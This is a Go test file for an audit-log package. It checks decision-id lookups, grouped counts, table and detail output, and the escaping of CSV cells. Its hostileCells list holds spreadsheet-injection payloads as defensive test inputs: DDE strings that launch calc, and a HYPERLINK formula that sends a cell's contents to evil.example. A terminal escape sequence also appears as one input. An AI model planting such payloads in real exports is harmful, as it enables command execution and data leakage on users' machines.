package audit

import (
	"bytes"
	"context"
	"database/sql/driver"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// timeID returns a decision id of the broker's form for a row at at: 12
// hex digits of Unix milliseconds, then 20 of the rest.
func timeID(at time.Time, rest int) string {
	return fmt.Sprintf("%012x%020x", at.UnixMilli(), rest)
}

// Filter.DecisionID finds exactly one row, by an index probe when the id
// names the row's millisecond, and by a scan for any other id.
func TestQueryDecisionID(t *testing.T) {
	path := filepath.Join(t.TempDir(), "audit.db")
	l := startLog(t, Config{Path: path})
	same := t0.Add(time.Second)
	ids := []struct {
		id string
		at time.Time
	}{
		{timeID(same, 1), same},
		{timeID(same, 2), same}, // the same millisecond
		{timeID(t0.Add(2*time.Second), 3), t0.Add(2 * time.Second)},
		{timeID(t0, 4), t0.Add(time.Hour)}, // names another time than its row's
		{"dec-not-time-ordered", t0.Add(3 * time.Second)},
		{strings.ToUpper(timeID(same, 5)), same}, // not the broker's form
	}
	for _, x := range ids {
		appendRecord(t, l.Log, x.id, "stripe", x.at)
	}
	for _, x := range ids {
		var got []string
		err := Query(context.Background(), path, Filter{DecisionID: x.id}, func(r *Record) error {
			got = append(got, r.DecisionID)
			return nil
		})
		if err != nil || !slices.Equal(got, []string{x.id}) {
			t.Errorf("Query(DecisionID %s) = %v, %v", x.id, got, err)
		}
	}
	var n int
	err := Query(context.Background(), path, Filter{DecisionID: timeID(same, 9)}, func(*Record) error { n++; return nil })
	if err != nil || n != 0 {
		t.Errorf("an unknown id found %d rows, %v", n, err)
	}
	if err := Query(context.Background(), path, Filter{DecisionID: ids[0].id, Credential: "other"}, func(*Record) error { n++; return nil }); err != nil || n != 0 {
		t.Errorf("the id with a credential it does not have found %d rows, %v", n, err)
	}

	// The broker's ids are looked up through decisions_time in their
	// millisecond, not by scanning the table.
	c, err := openDatabase(path, modeReadOnly, readBusyTimeout)
	if err != nil {
		t.Fatal(err)
	}
	defer c.close()
	ms, ok := idTime(ids[0].id)
	if !ok || ms != same.UnixMilli() {
		t.Fatalf("idTime(%s) = %d, %v", ids[0].id, ms, ok)
	}
	query, args := Filter{DecisionID: ids[0].id}.statement(c, &ms)
	var plan []string
	err = eachRow(context.Background(), c, "EXPLAIN QUERY PLAN "+query, args, func(v []driver.Value) error {
		plan = append(plan, fmt.Sprint(v[3]))
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(plan) == 0 || plan[0] != "SEARCH decisions USING INDEX decisions_time (time>? AND time<?)" || strings.Contains(strings.Join(plan, ";"), "SCAN") {
		t.Errorf("plan %q, want a search of decisions_time in a time range", plan)
	}
	for _, bad := range []string{"", "0123", strings.Repeat("g", 32), strings.Repeat("f", 32)} {
		if _, ok := idTime(bad); ok {
			t.Errorf("idTime(%q) took it for a time-ordered id", bad)
		}
	}
}

// Counts group rows by keys in the order named, the largest group first,
// ties by their values.
func TestCountBy(t *testing.T) {
	path := filepath.Join(t.TempDir(), "audit.db")
	l := startLog(t, Config{Path: path})
	for i, q := range queryRows {
		r := testRecord(i, t0.Add(q.at))
		r.DecisionID, r.Subject, r.Decision, r.Credential, r.Policy = q.id, q.subject, q.decision, q.credential, q.policy
		if err := l.Append(context.Background(), r); err != nil {
			t.Fatal(err)
		}
	}
	tests := []struct {
		keys []string
		f    Filter
		want []string // "value|value=n"
	}{
		{[]string{"decision"}, Filter{}, []string{"allow=4", "deny=1", "error=1"}},
		{[]string{"credential", "decision"}, Filter{}, []string{"stripe|allow=2", "demo|allow=1", "demo|error=1", "ledger-db|allow=1", "stripe|deny=1"}},
		{[]string{"decision", "credential"}, Filter{}, []string{"allow|stripe=2", "allow|demo=1", "allow|ledger-db=1", "deny|stripe=1", "error|demo=1"}},
		{[]string{"policy"}, Filter{Credential: "stripe"}, []string{"pay-charge=2", "=1"}},
		{[]string{"workload", "channel"}, Filter{Workload: "unix:*"}, []string{"unix:uid:1000|http=1", "unix:uid:1001|http=1"}},
	}
	for _, tt := range tests {
		counts, err := CountBy(context.Background(), OpenFile(path), tt.f, tt.keys)
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, c := range counts {
			got = append(got, fmt.Sprintf("%s=%d", strings.Join(c.Values, "|"), c.N))
		}
		if !slices.Equal(got, tt.want) {
			t.Errorf("CountBy(%v, %+v) = %v, want %v", tt.keys, tt.f, got, tt.want)
		}
	}
	for _, keys := range [][]string{nil, {"nope"}, {"decision", "decision"}} {
		if _, err := NewCounter(keys); err == nil {
			t.Errorf("NewCounter(%q) accepted it", keys)
		}
	}
	if _, err := NewCounter(CountKeys()); err != nil {
		t.Errorf("NewCounter(every key): %v", err)
	}
}

func TestWriteCounts(t *testing.T) {
	keys := []string{"workload", "decision"}
	counts := []Count{{[]string{"=cmd|' /C calc'!A0", "deny"}, 12}, {[]string{"unix:uid:0", ""}, 3}}
	for _, tt := range []struct{ format, want string }{
		{FormatTable, "WORKLOAD            DECISION  COUNT\n=cmd|' /C calc'!A0  deny      12\nunix:uid:0          -         3\n"},
		{FormatJSON, `{"workload":"=cmd|' /C calc'!A0","decision":"deny","count":12}` + "\n" + `{"workload":"unix:uid:0","decision":"","count":3}` + "\n"},
		{FormatCSV, "workload,decision,count\n'=cmd|' /C calc'!A0,deny,12\nunix:uid:0,,3\n"},
	} {
		var b bytes.Buffer
		if err := WriteCounts(&b, tt.format, keys, counts); err != nil {
			t.Fatal(err)
		}
		if b.String() != tt.want {
			t.Errorf("%s:\n%s\nwant\n%s", tt.format, b.String(), tt.want)
		}
	}
	if err := WriteCounts(&bytes.Buffer{}, "xml", keys, counts); err == nil {
		t.Error("WriteCounts accepted xml")
	}
}

// Every column of the table shows its field of a full record; aliases name
// the same columns; an unknown column is refused with the list.
func TestTableColumns(t *testing.T) {
	r := storedRecord(t, testRecord(7, t0))
	r.Install, r.Host, r.Database, r.UpstreamUser = "5e1f0c2a9b7d", "web-1", "orders", "orders_app"
	r.Claims["exe"] = "/usr/bin/psql"
	for _, name := range TableColumns() {
		var b bytes.Buffer
		f, err := NewTable(&b, []string{name})
		if err != nil {
			t.Fatal(err)
		}
		if err := f.Write(r); err != nil {
			t.Fatal(err)
		}
		f.Flush()
		lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
		if len(lines) != 2 || lines[0] != strings.ToUpper(name) {
			t.Fatalf("column %s:\n%s", name, b.String())
		}
		if name != "policy_set_version" && lines[1] == "-" {
			t.Errorf("column %s is empty for a full record", name)
		}
	}
	var b bytes.Buffer
	f, err := NewTable(&b, []string{"decision_id", "exe", "peer", "lease", "expiry", "fingerprint", "latency", "policy_version", "policy_set_version"})
	if err != nil {
		t.Fatal(err)
	}
	deny := *r
	deny.DecisionID, deny.Policy, deny.PeerPID, deny.PeerUID, deny.ExpiresAt = "d2", "", 0, -1, time.Time{}
	deny.Claims = nil
	deny.Input = json.RawMessage(`{"identity":{"method":"kubernetes","peer":{"claims":{"exe":"/opt/app","uid":7},"method":"unix","subject":"unix:uid:7"},"subject":"x"}}`)
	f.Write(r)
	f.Write(&deny)
	f.Flush()
	lines := strings.Split(b.String(), "\n")
	if got := strings.Join(strings.Fields(lines[0]), " "); got != "DECISION_ID EXE PEER LEASE_ID EXPIRES_AT FINGERPRINT LATENCY_MS POLICY_VERSION POLICY_SET_VERSION" {
		t.Errorf("header %q", lines[0])
	}
	for _, w := range []string{"dec-00000007", "/usr/bin/psql", "pid=4242 uid=1000", "lease-00000007", "2025-03-04T05:21:07.890Z", r.Fingerprint, "1.235", r.PolicyVersion} {
		if !strings.Contains(lines[1], w) {
			t.Errorf("row lacks %q: %s", w, lines[1])
		}
	}
	if f := strings.Fields(lines[2]); len(f) != 9 || f[1] != "/opt/app" || f[2] != "-" || f[4] != "-" || f[7] != "-" || f[8] != r.PolicyVersion {
		t.Errorf("default deny row: %q", f)
	}
	_, err = NewTable(&b, []string{"time", "secret"})
	if err == nil || !strings.Contains(err.Error(), `"secret"`) || !strings.Contains(err.Error(), "fingerprint, latency_ms") {
		t.Errorf("unknown column: %v", err)
	}
}

// hostileCells are caller-chosen texts a spreadsheet would run as formulas,
// and their escaped form.
var hostileCells = []struct{ in, want string }{
	{"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"},
	{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
	{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
	{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
	{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	{"'already quoted", "''already quoted"},
	{"unix:uid:1000", "unix:uid:1000"},
	{"a=b", "a=b"},
	{"", ""},
}

// CSV text cells that begin with a formula character are escaped; the
// numeric columns, ours, stay numbers (an unknown peer_uid is -1).
func TestCSVFormulaEscaping(t *testing.T) {
	base := storedRecord(t, testRecord(7, t0))
	var b bytes.Buffer
	f, _ := NewFormatter(&b, FormatCSV)
	for _, h := range hostileCells {
		r := *base
		r.Subject, r.Reason, r.Credential, r.Path, r.Database, r.UpstreamUser = h.in, h.in, h.in, h.in, h.in, h.in
		r.PeerUID, r.PeerPID = -1, 0
		r.Latency = 0
		if err := f.Write(&r); err != nil {
			t.Fatal(err)
		}
	}
	f.Flush()
	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := func(name string) int { return slices.Index(recs[0], name) }
	for i, h := range hostileCells {
		row := recs[i+1]
		for _, name := range []string{"subject", "reason", "credential", "path", "database", "upstream_user"} {
			if got := row[col(name)]; got != h.want {
				t.Errorf("%s %q written as %q, want %q", name, h.in, got, h.want)
			}
		}
		if row[col("peer_uid")] != "-1" || row[col("peer_pid")] != "0" || row[col("latency_ms")] != "0" || row[col("seq")] != "1" {
			t.Errorf("numeric cells: peer_uid %q peer_pid %q latency_ms %q seq %q", row[col("peer_uid")], row[col("peer_pid")], row[col("latency_ms")], row[col("seq")])
		}
		for j, c := range row {
			if c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) {
				t.Errorf("column %s begins with a formula character: %q", recs[0][j], c)
			}
			if c != "" && c[0] == '-' && !slices.Contains([]string{"peer_uid", "peer_pid", "latency_ms", "seq"}, recs[0][j]) {
				t.Errorf("text column %s begins with -: %q", recs[0][j], c)
			}
		}
	}
}

// unescapeCSV undoes CSVText, as the documentation tells a consumer to.
func unescapeCSV(s string) string {
	if strings.HasPrefix(s, "'") {
		return s[1:]
	}
	return s
}

func FuzzCSVText(f *testing.F) {
	for _, h := range hostileCells {
		f.Add(h.in)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := CSVText(s)
		if got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) {
			t.Errorf("CSVText(%q) = %q begins with a formula character", s, got)
		}
		if back := unescapeCSV(got); back != s {
			t.Errorf("CSVText(%q) = %q reads back as %q", s, got, back)
		}
	})
}

// WriteDetail shows every field of one row, escaped, and its input
// pretty-printed.
func TestWriteDetail(t *testing.T) {
	r := storedRecord(t, testRecord(7, t0))
	r.Subject = "unix:uid:0\x1b[2J"
	var b bytes.Buffer
	if err := WriteDetail(&b, r); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, name := range TableColumns() {
		switch name {
		case "input", "peer_pid", "peer_uid", "install", "host":
			continue
		}
		if !strings.Contains(out, "\n"+name+" ") && !strings.HasPrefix(out, name+" ") {
			t.Errorf("no line for %s:\n%s", name, out)
		}
	}
	for _, w := range []string{
		"time                2025-03-04T05:06:07.890123456Z\n",
		"subject             \"unix:uid:0\\x1b[2J\"\n",
		"peer                pid=4242 uid=1000\n",
		"policy_set_version  -\n",
		"latency_ms          1.234567\n",
		"input\n  {\n    \"identity\": {\n      \"claims\": {\n",
	} {
		if !strings.Contains(out, w) {
			t.Errorf("detail lacks %q:\n%s", w, out)
		}
	}
	if strings.Contains(out, "install") || strings.ContainsRune(out, 0x1b) {
		t.Errorf("detail shows an empty install or a raw escape:\n%s", out)
	}
}
